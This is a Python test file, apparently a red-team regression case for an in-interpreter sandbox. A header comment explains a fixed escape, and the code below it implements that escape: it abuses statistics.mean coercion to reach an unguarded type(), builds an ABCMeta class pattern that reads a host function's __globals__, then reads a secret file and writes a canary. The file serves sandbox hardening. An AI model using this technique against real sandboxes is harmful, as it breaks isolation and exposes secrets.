# mypy: ignore-errors
# Technique: statistics groups its data by the real `type`, coerces the classes it found to
# one (`_coerce`) and converts its exact total with that class (`_convert`: `T(value)`). A
# class in the data (static `as_integer_ratio`/`is_finite` calling it "not finite") made the
# real `type` the target, and a plugin `int` subclass's arithmetic chose the total: `mean()`
# returned the unguarded `type()` of any object. `type(collections.abc.Hashable)` is
# `abc.ABCMeta`, whose three-argument call built an ABC admitting any subject with
# `__match_args__ = ("__globals__",)`, and a class pattern over a host function read its
# globals (the real builtins). Found in the eleventh red-team pass of the in-interpreter
# layer; was a real in-interpreter escape (3.11-3.13) before the fix (in the worker,
# statistics coerces only to classes the guarded `type()` hands out).
import statistics
import typing

from suaveplan import fs

U = "_" * 2


class Element:
    @staticmethod
    def as_integer_ratio():
        raise ValueError("not finite")

    @staticmethod
    def is_finite():
        return False


class Total(int):
    target = None

    def as_integer_ratio(self):
        raise ValueError("not finite")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __add__(self, other):
        return self

    def __truediv__(self, other):
        return Total.target


def type_of(obj):
    Total.target = obj
    return statistics.mean([Total(0), Element])


def attack(secret_path, canary_path):
    try:
        meta = type_of(typing.get_origin(typing.Hashable))
    except TypeError as exc:
        return repr(exc)[:120]
    hook = classmethod(lambda cls, c: True)
    namespace = {U + "match_args" + U: (U + "globals" + U,), U + "subclasshook" + U: hook}
    any_ = meta("Any", (), namespace)
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
